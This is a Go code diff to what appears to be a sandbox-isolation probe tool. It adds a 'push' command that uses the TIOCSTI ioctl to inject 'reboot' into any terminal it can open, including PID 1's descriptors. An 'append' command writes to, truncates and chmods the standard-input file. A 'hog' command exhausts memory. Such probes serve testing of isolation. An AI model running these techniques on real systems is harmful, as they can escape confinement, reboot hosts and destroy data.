@@ -4,6 +4,7 @@ package main
 import (
 	"encoding/binary"
 	"fmt"
+	"io"
 	"io/fs"
 	"net"
 	"os"
@@ -125,6 +126,46 @@ var commands = map[string]func([]string){
 	"fds":    fds,
 	"jobs":   jobs,
 	"tty":    tty,
+
+	"push": func([]string) { // types on every terminal that it can find
+		for _, name := range []string{"/dev/fd/0", "/dev/fd/1", "/dev/fd/2", "/dev/tty", "/dev/pts/0", "/proc/1/fd/0", "/proc/1/fd/1"} {
+			fd, err := unix.Open(name, unix.O_RDWR, 0)
+			if err != nil {
+				continue
+			}
+			for _, c := range []byte("reboot\n") {
+				unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
+			}
+			fmt.Println("tried", name)
+		}
+	},
+	"append": func(a []string) { // to what descriptor 0 is
+		b, err := io.ReadAll(os.Stdin)
+		must(err)
+		fmt.Printf("read %s\n", b)
+		for _, way := range []string{"/dev/stdin", "/proc/self/fd/0"} {
+			for _, flags := range []int{os.O_WRONLY, os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_TRUNC} {
+				if f, err := os.OpenFile(way, flags, 0); err == nil {
+					fmt.Fprint(f, "from inside")
+				}
+			}
+		}
+		unix.Ftruncate(0, 0)
+		unix.Fchmod(0, 0)
+	},
+	"hog": func(a []string) { // takes memory, in MiB, in a child, and tells how that ended
+		if len(a) > 1 {
+			b := make([]byte, number(a[0])<<20)
+			for i := 0; i < len(b); i += 4096 {
+				b[i] = 1
+			}
+			return
+		}
+		c := exec.Command("/bin/probe", "hog", a[0], "child")
+		fmt.Println("ended:", c.Run())
+	},
+	"breaches":  breaches,
+	"jailbreak": jailbreak,
 }
 
 func number(s string) int {
@@ -368,7 +409,7 @@ func attack([]string) {
 		return e
 	})
 	try("prlimit 1", func() error { return unix.Prlimit(1, unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 1, Max: 1}, nil) })
-	try("raise limit", func() error { return unix.Setrlimit(unix.RLIMIT_CORE, &unix.Rlimit{Cur: 1, Max: 1}) })
+	try("raise limit", func() error { return unix.Setrlimit(unix.RLIMIT_CORE, &unix.Rlimit{Cur: 2, Max: 2}) })
 	otherTables()
 }
 
